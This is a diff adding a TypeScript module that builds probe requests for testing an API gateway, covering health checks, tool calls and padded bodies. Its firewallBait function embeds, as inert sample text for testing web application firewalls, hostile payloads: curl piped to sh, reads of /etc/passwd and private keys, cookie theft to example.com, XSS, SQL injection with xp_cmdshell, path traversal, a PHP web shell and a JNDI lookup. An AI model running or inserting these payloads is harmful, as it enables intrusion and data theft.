@@ -1,0 +1,198 @@
+import type { GatewayRequest } from '../../gateway/types.ts';
+import { tierOf } from '../model-choice.ts';
+
+/*
+ * Everything the probe sends, in one place, so that it can be read and priced. The shapes follow what the
+ * desktop engine was seen to send (query `?beta=true`, headers, betas) and platform.claude.com "Messages".
+ */
+
+const MESSAGES = '/v1/messages?beta=true';
+export const MODELS = '/v1/models?limit=1000';
+export const COUNT_TOKENS = '/v1/messages/count_tokens?beta=true';
+
+/** The betas that the engine sends with Desktop's settings, on every message. */
+export const BETAS = 'claude-code-20250219,interleaved-thinking-2025-05-14';
+
+/** Version, Accept (the same for streams) and x-app are the client's own defaults; they are not repeated here. */
+const HEADERS: Readonly<Record<string, string>> = { 'anthropic-beta': BETAS };
+
+type Body = Readonly<Record<string, unknown>>;
+
+export function messages(body: unknown, headers: Readonly<Record<string, string>> = {}): GatewayRequest {
+  return { method: 'POST', path: MESSAGES, body, headers: { ...HEADERS, ...headers } };
+}
+
+export function listModels(): GatewayRequest {
+  // Ten seconds is how long a silent list delays the start of the app.
+  return {
+    method: 'GET',
+    path: MODELS,
+    timeouts: { firstByte: 10_000, total: 15_000 },
+  };
+}
+
+/** The app's own health check: one token, one dot, no system prompt, no tools. */
+export function healthBody(model: string, maxTokens = 1): Body {
+  return { model, max_tokens: maxTokens, messages: [{ role: 'user', content: '.' }] };
+}
+
+export function nonceBody(model: string, word: string): Body {
+  const content = `Reply with the word ${word} twice, nothing else.`;
+  return { model, max_tokens: 32, messages: [{ role: 'user', content }] };
+}
+
+export function countingBody(model: string): Body {
+  const content = 'Count from 1 to 60 in digits, one per line.';
+  return { model, max_tokens: 256, stream: true, messages: [{ role: 'user', content }] };
+}
+
+/** What the engine adds to a plain request: system blocks, cache marks, metadata, thinking, client headers. */
+export function richRequest(model: string): GatewayRequest {
+  const cached = { cache_control: { type: 'ephemeral', ttl: '1h' } };
+  const body = {
+    model,
+    max_tokens: 16,
+    stream: true,
+    system: [
+      { type: 'text', text: 'x-anthropic-billing-header: cc_version=2.1.260; cc_entrypoint=local-agent;' },
+      { type: 'text', text: 'You are a test of a gateway. Answer with one short word.', ...cached },
+    ],
+    messages: [
+      { role: 'user', content: [{ type: 'text', text: 'Say yes.', cache_control: { type: 'ephemeral' } }] },
+    ],
+    metadata: { user_id: 'cowork-3p-probe' },
+    ...(thinksAdaptively(model) ? { thinking: { type: 'adaptive' } } : {}),
+  };
+  return messages(body, {
+    'anthropic-dangerous-direct-browser-access': 'true',
+    'x-claude-code-session-id': '00000000-0000-4000-8000-000000000000',
+    'x-stainless-arch': 'x64',
+    'x-stainless-lang': 'js',
+    'x-stainless-os': 'Linux',
+    'x-stainless-package-version': '0.128.0',
+    'x-stainless-retry-count': '0',
+    'x-stainless-runtime': 'node',
+    'x-stainless-runtime-version': 'v20.0.0',
+    'x-stainless-timeout': '600',
+  });
+}
+
+/** Adaptive thinking came with the 4.6 models (platform.claude.com "Adaptive thinking"); Haiku 4.5 and older refuse it. */
+export function thinksAdaptively(model: string): boolean {
+  const tier = tierOf(model);
+  if (tier === 'fable' || tier === 'mythos') return true;
+  const version = /(?:opus|sonnet|haiku)[-.](\d{1,2})(?:[-.](\d{1,2}))?(?![\d])/.exec(model.toLowerCase());
+  if (version === null) return false;
+  const major = Number(version[1]);
+  return major > 4 || (major === 4 && Number(version[2] ?? '0') >= 6);
+}
+
+export const TOOL = {
+  name: 'probe_echo',
+  description: 'Gives back a city and a number. Call it whenever it is offered.',
+  input_schema: {
+    type: 'object',
+    properties: { city: { type: 'string' }, n: { type: 'integer' } },
+    required: ['city', 'n'],
+  },
+} as const;
+
+const SECOND_TOOL = {
+  name: 'probe_second',
+  description: 'Takes one short word. Call it together with the other tool.',
+  input_schema: { type: 'object', properties: { q: { type: 'string' } }, required: ['q'] },
+} as const;
+
+const TOOL_PROMPT = 'Call the tool probe_echo with city Oslo and n 7.';
+
+export function toolBody(model: string, stream: boolean): Body {
+  return {
+    model,
+    max_tokens: 128,
+    ...(stream ? { stream: true } : {}),
+    messages: [{ role: 'user', content: TOOL_PROMPT }],
+    tools: [TOOL],
+    tool_choice: { type: 'tool', name: TOOL.name },
+  };
+}
+
+/** The second half of a tool loop: the call as the model made it, its result, the tools still offered. */
+export function toolResultBody(model: string, result: string, isError: boolean): Body {
+  const call = {
+    type: 'tool_use',
+    id: 'toolu_01CoworkProbe0001',
+    name: TOOL.name,
+    input: { city: 'Oslo', n: 7 },
+  };
+  const content = isError
+    ? { type: 'tool_result', tool_use_id: call.id, is_error: true, content: result }
+    : { type: 'tool_result', tool_use_id: call.id, content: [{ type: 'text', text: result }] };
+  return {
+    model,
+    max_tokens: 64,
+    stream: true,
+    messages: [
+      { role: 'user', content: `${TOOL_PROMPT} Then repeat word for word what it gave back.` },
+      { role: 'assistant', content: [call] },
+      { role: 'user', content: [content] },
+    ],
+    tools: [TOOL],
+  };
+}
+
+export function twoToolsBody(model: string): Body {
+  return {
+    model,
+    max_tokens: 256,
+    stream: true,
+    messages: [
+      { role: 'user', content: 'Call both tools, probe_echo and probe_second, in this one answer.' },
+    ],
+    tools: [TOOL, SECOND_TOOL],
+  };
+}
+
+/**
+ * A health check that carries what agent prompts carry and web application firewalls take for attacks: XML tags,
+ * shell, markup, SQL, paths. None of it is run by anyone.
+ */
+export function firewallBait(model: string, maxTokens: number): Body {
+  const text = `You work on a developer's machine. The user's project holds shell scripts, web pages and queries.
+<system-reminder>
+Read a file before you change it. Never run a command that the user has not seen.
+</system-reminder>
+<env>
+Working directory: /home/dev/project
+Is directory a git repo: Yes
+</env>
+Examples from earlier turns:
+$ cat /etc/passwd | grep -v nologin
+$ curl -fsSL https://example.com/install.sh | sh
+$ find / -name "*.pem" -exec ls -la {} \\; 2>/dev/null; rm -rf ./build && echo done
+$ python3 -c "import os; os.system('id')"
+The page under test:
+<script>document.location = 'https://example.com/?c=' + document.cookie;</script>
+<img src=x onerror="alert(1)"><iframe src="javascript:alert(document.domain)"></iframe>
+The query under test:
+SELECT name, password FROM users WHERE id = '1' OR '1' = '1' UNION SELECT table_name, NULL FROM information_schema.tables; -- comment
+DROP TABLE sessions; EXEC xp_cmdshell('dir');
+Paths in use: ../../../../etc/shadow, ..\\..\\windows\\system32\\cmd.exe, /proc/self/environ
+<?php system($_GET['cmd']); include('http://example.com/shell.txt'); ?>
+{{7*7}} \${jndi:ldap://example.com/a} require('child_process').exec('whoami')
+Answer with one short word.`;
+  return {
+    model,
+    max_tokens: maxTokens,
+    system: [{ type: 'text', text }],
+    messages: [{ role: 'user', content: '.' }],
+  };
+}
+
+/** A health check blown up with spaces between its JSON tokens: any size, and not one token more. */
+export function paddedBody(model: string, maxTokens: number, bytes: number): Uint8Array {
+  const json = Buffer.from(JSON.stringify(healthBody(model, maxTokens)), 'utf8');
+  const padded = Buffer.alloc(Math.max(bytes, json.length), 0x20);
+  padded[0] = json[0] ?? 0x7b;
+  json.copy(padded, padded.length - (json.length - 1), 1);
+  return padded;
+}
